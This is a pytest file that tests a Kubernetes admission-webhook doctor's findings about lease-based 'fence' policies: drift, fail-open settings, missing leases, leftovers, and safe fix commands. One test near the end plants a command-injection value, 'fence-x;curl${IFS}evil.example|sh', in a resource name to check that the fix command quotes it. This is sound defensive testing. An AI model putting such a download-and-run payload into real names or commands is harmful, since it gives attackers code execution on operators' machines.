"""What the doctor says about fences: each finding by one change of a cluster that is in order."""

import copy
import inspect
import re
from pathlib import Path
from typing import Any

import pytest

from tests.policy.fences.made import FENCE, stamped
from tests.policy.fences.made import fence as made_fence
from webhook.admission.policy.fences import Fence
from webhook.api_server.doctor import fences_and_stamps as policies_module
from webhook.api_server.doctor.documents import ELSE_REPLACE, Documents
from webhook.api_server.doctor.fences_and_stamps import examine_fences
from webhook.api_server.fence.objects import make_fence_manifests

NAME = "fence-shop-operator"
FENCES = [made_fence()]
LEASE = {"kind": "Lease", "metadata": {"name": "operator", "namespace": "shop"}, "spec": {"holderIdentity": "op-1_x"}}
POD = {"kind": "Pod", "metadata": {"name": "op-1", "namespace": "shop"}, "spec": {"serviceAccountName": "operator"}}
TOKEN = {
    "kind": "Secret",
    "type": "kubernetes.io/service-account-token",
    "metadata": {
        "name": "old",
        "namespace": "shop",
        "annotations": {"kubernetes.io/service-account.name": "operator"},
    },
}


def applied(**keys: Any) -> list[dict[str, Any]]:
    return copy.deepcopy(make_fence_manifests(made_fence(**keys)))


def changed(kind: int, field: str, value: object) -> list[dict[str, Any]]:
    objects = applied()
    objects[kind]["spec"][field] = value
    return objects


def checks(objects: list[dict[str, Any]], fences: list[Fence] | None = None) -> list[str]:
    reports = examine_fences(Documents(objects), FENCES if fences is None else fences, "policy.yaml")
    return [f"{report.subject}: {one.check}" for report in reports for one in report.findings]


@pytest.mark.parametrize(
    ("objects", "expected"),
    [
        pytest.param([LEASE], [], id="no policies of the API server: nothing is said"),
        pytest.param(applied(), [], id="as exported"),
        pytest.param([*applied(), LEASE, POD], [], id="with its lease and its pod"),
        pytest.param(applied()[:1], ["fence-not-applied"], id="the binding is not there"),
        pytest.param(applied(mode="warn"), ["fence-drift", "fence-drift"], id="a milder mode"),
        pytest.param(applied(resources=["pods"]), ["fence-drift"], id="other resources"),
        pytest.param(applied(lease="shop/other"), ["fence-drift", "fence-drift"], id="another lease"),
        pytest.param(changed(0, "failurePolicy", "Ignore"), ["fence-drift"], id="it fails open"),
        pytest.param(changed(0, "matchConditions", []), ["fence-drift"], id="a list of another length"),
        pytest.param(
            [*applied(), {**LEASE, "metadata": {"name": "x", "namespace": "shop"}}],
            ["fence-lease-missing"],
            id="no such lease",
        ),
        pytest.param([*applied(), {**LEASE, "spec": {}}], [], id="an unheld lease"),
        pytest.param(
            [*applied(), {**LEASE, "spec": {"holderIdentity": "1234"}}],
            ["fence-holder-unmatched"],
            id="a holder of another form",
        ),
        pytest.param(
            [*applied(), LEASE, {**POD, "metadata": {"name": "op-2", "namespace": "shop"}}],
            ["fence-holder-unmatched"],
            id="a holder that no pod fits",
        ),
        pytest.param(
            [*applied(), LEASE, {**POD, "spec": {}}], ["fence-writer-elsewhere"], id="a holder of another account"
        ),
        pytest.param([*applied(), TOKEN], ["fence-token-without-pod"], id="a token without a pod"),
        pytest.param([*applied(), {**TOKEN, "type": "Opaque"}], [], id="a Secret of another type"),
    ],
)
def test_findings_about_a_fence(objects: list[dict[str, Any]], expected: list[str]) -> None:
    assert checks(objects) == [f"{NAME}: {check}" for check in expected]


@pytest.mark.parametrize(
    ("objects", "expected"),
    [
        pytest.param(applied(), [], id="both objects"),
        pytest.param(applied()[1:], ["fence-incomplete"], id="the binding alone"),
        pytest.param(applied()[:1], ["fence-incomplete"], id="the policy alone"),
        pytest.param(changed(0, "failurePolicy", "Ignore"), ["fence-fails-open"], id="it fails open"),
        pytest.param(applied(mode="warn"), [], id="a warning may fail open"),
        pytest.param(make_fence_manifests(stamped(expired="deny"))[2:], [], id="a clock fails open"),
        pytest.param(changed(1, "validationActions", 5), [], id="actions of no form"),
        pytest.param(
            [{**one, "metadata": {"name": "somebody-elses"}} for one in applied()[:1]], [], id="an object of others"
        ),
    ],
)
def test_findings_without_a_policy_file(objects: list[dict[str, Any]], expected: list[str]) -> None:
    assert checks(objects, []) == [f"{NAME}: {check}" for check in expected]


STAMPED = stamped(token=True, expired="deny")
WHOLE = make_fence_manifests(STAMPED)


def leased(writer: str) -> dict[str, Any]:
    annotations = {"lease-webhook/writer-5f3a9c1e": writer} if writer else None
    return {**LEASE, "metadata": {**LEASE["metadata"], "annotations": annotations}}  # type: ignore[dict-item]


@pytest.mark.parametrize(
    ("objects", "expected"),
    [
        pytest.param(WHOLE, [], id="as exported"),
        pytest.param([*WHOLE, leased("1 system:serviceaccount:shop:operator")], [], id="stamped"),
        pytest.param([*WHOLE, leased("")], ["fence-lease-unstamped"], id="not stamped"),
        pytest.param(
            [*WHOLE, leased("1 system:serviceaccount:shop:other")], ["fence-writer-elsewhere"], id="another user leads"
        ),
        pytest.param(WHOLE[2:], ["fence-not-applied", "fence-not-applied"], id="the token is not stamped"),
        pytest.param([*WHOLE[:-1], {**WHOLE[-1], "spec": {}}], ["fence-drift"], id="the clock was changed"),
    ],
)
def test_findings_about_a_token_and_a_clock(objects: list[dict[str, Any]], expected: list[str]) -> None:
    assert checks(objects, [STAMPED]) == [f"{NAME}: {check}" for check in expected]


@pytest.mark.parametrize(
    ("value", "labels", "words"),
    [
        pytest.param("pending", 1_001, "label the namespace", id="pending"),
        pytest.param("required", 1_001, "or 100 owners. Cut it: kubectl --namespace shop patch", id="too much"),
        pytest.param("required", 1_000, "the next renewal is stamped unless", id="not too much"),
    ],
)
def test_a_lease_without_a_stamp_is_cut_where_the_namespace_is_labeled(value: str, labels: int, words: str) -> None:
    namespace = {"kind": "Namespace", "metadata": {"name": "shop", "labels": {"lease-webhook/stamp": value}}}
    lease = leased("")
    lease["metadata"]["labels"] = {f"a{at}": "" for at in range(labels)}
    (report,) = examine_fences(Documents([*WHOLE, namespace, lease]), [STAMPED], "policy.yaml")
    (finding,) = report.findings
    assert words in finding.fix


def test_a_token_without_its_binding() -> None:
    assert checks(WHOLE[:1], []) == [f"{NAME}.token: fence-incomplete"]


def test_parts_that_an_earlier_policy_left_are_named() -> None:
    left = make_fence_manifests(stamped(name="gone", token=True))[:2]
    (_, report) = examine_fences(Documents([*applied(), *left]), FENCES, "policy.yaml")
    assert report.subject == "fence-gone.token"
    assert report.findings[0].fix == (
        "kubectl delete mutatingadmissionpolicybinding,mutatingadmissionpolicy fence-gone.token"
    )


def test_every_finding_is_tried() -> None:
    named = set(re.findall(r'danger\(\s*"(fence-[a-z-]+)"', inspect.getsource(policies_module)))
    assert len(named) == 11
    assert all(
        f'"{check}"' in Path(__file__).read_text() or f": {check}" in Path(__file__).read_text() for check in named
    )


def constrained(**fields: object) -> list[dict[str, Any]]:
    objects = applied(resources=["configmaps"])
    objects[0]["spec"]["matchConstraints"] |= fields
    return objects


def named(operator: str, *values: str) -> dict[str, Any]:
    return {"matchExpressions": [{"key": "kubernetes.io/metadata.name", "operator": operator, "values": list(values)}]}


@pytest.mark.parametrize(
    ("objects", "narrowed"),
    [
        pytest.param(applied(), "", id="as exported"),
        pytest.param(constrained(namespaceSelector=named("In", "shop")), "", id="it selects a namespace"),
        pytest.param(
            constrained(namespaceSelector=named("In", "nowhere")),
            "namespaceSelector, which selects none",
            id="it selects no namespace",
        ),
        pytest.param(
            constrained(objectSelector={"matchLabels": {"a": "b"}}), "objectSelector", id="the writer decides by labels"
        ),
        pytest.param(
            constrained(excludeResourceRules=[{"resources": ["*"]}]), "excludeResourceRules", id="it leaves out writes"
        ),
        pytest.param(
            changed(1, "matchResources", {"namespaceSelector": named("In", "nowhere")}),
            "matchResources of its binding",
            id="its binding selects",
        ),
        pytest.param(changed(1, "policyName", "other"), "policyName of its binding", id="it is not bound"),
        pytest.param(changed(0, "matchConstraints", 5), "", id="odd constraints"),
    ],
)
def test_a_fence_that_matches_fewer_writes_is_not_called_safe_without_its_file(
    objects: list[dict[str, Any]], narrowed: str
) -> None:
    shop = {"kind": "Namespace", "metadata": {"name": "shop"}}
    (report,) = examine_fences(Documents([*objects, shop], ()), [], "policy.yaml")
    kind = "ValidatingAdmissionPolicy"
    expected = [("fence-narrowed", f"{kind} {NAME}: {narrowed}")] if narrowed else []
    assert [(one.check, one.place) for one in report.findings] == expected


def test_a_copy_of_a_binding_is_no_fence_of_its_own() -> None:
    copied = copy.deepcopy(applied()[1])
    copied["metadata"]["name"] = "acme-fence-shop-operator"
    assert checks([*applied(), copied], []) == checks([*applied(), copied]) == []


def test_fences_without_their_file_are_not_compared_which_is_said_once() -> None:
    objects = [*applied(), *applied(name="other")]
    first, second = examine_fences(Documents(objects), [], "policy.yaml")
    assert (first.note, second.note) == (
        "fences were not compared with a policy file that has fences: --policy names it",
        "",
    )
    assert not any(one.note for one in examine_fences(Documents(objects), FENCES, "policy.yaml"))


def test_what_an_earlier_policy_left_is_named() -> None:
    objects = [*applied(), *applied(name="gone")]
    assert checks(objects) == ["fence-gone: fence-left-over"]


def test_the_name_of_a_fence_is_one_word_of_the_command_to_delete_it() -> None:
    objects = applied(name="gone")
    for document in objects:
        document["metadata"]["name"] = "fence-x;curl${IFS}evil.example|sh"
    objects[1]["spec"]["policyName"] = objects[1]["metadata"]["name"]
    (_, report) = examine_fences(Documents([*applied(), *objects]), FENCES, "policy.yaml")
    assert report.findings[0].fix.endswith(" 'fence-x;curl${IFS}evil.example|sh'")


def test_a_missing_lease_that_is_allowed_denies_nothing() -> None:
    fences = [made_fence(missing_lease="allow")]
    lease = {**LEASE, "metadata": {"name": "x", "namespace": "shop"}}
    (report,) = examine_fences(Documents([*applied(missing_lease="allow"), lease]), fences, "policy.yaml")
    assert report.findings[0].message == "no lease has this name: no write is denied."
    assert FENCE["lease"] in report.findings[0].place


EXPORT = (
    "lease-webhook export fence policy.yaml --name shop-operator{} | kubectl apply --server-side --force-conflicts -f -"
)


@pytest.mark.parametrize(
    ("mode", "objects", "fix"),
    [
        pytest.param("warn", applied(), "", id="stricter"),
        pytest.param("audit", applied(mode="warn"), "", id="stricter, and refuses nothing"),
        pytest.param("warn", applied(resources=["pods"]), EXPORT.format(" --mode deny"), id="stricter, of others"),
        pytest.param("deny", applied(mode="warn"), EXPORT.format(""), id="milder"),
        pytest.param("warn", changed(1, "validationActions", ["Deny"]), EXPORT.format(""), id="actions of no mode"),
    ],
)
def test_a_fix_never_makes_a_fence_milder(mode: str, objects: list[dict[str, Any]], fix: str) -> None:
    (report,) = examine_fences(Documents(objects), [made_fence(mode=mode)], "policy.yaml")
    assert {one.fix for one in report.findings} == ({f"{fix}; {ELSE_REPLACE}"} if fix else set())
    is_stricter = "--mode" in fix or not fix
    assert report.note.startswith("fence-shop-operator is stricter than policy.yaml: set `mode: ") == is_stricter
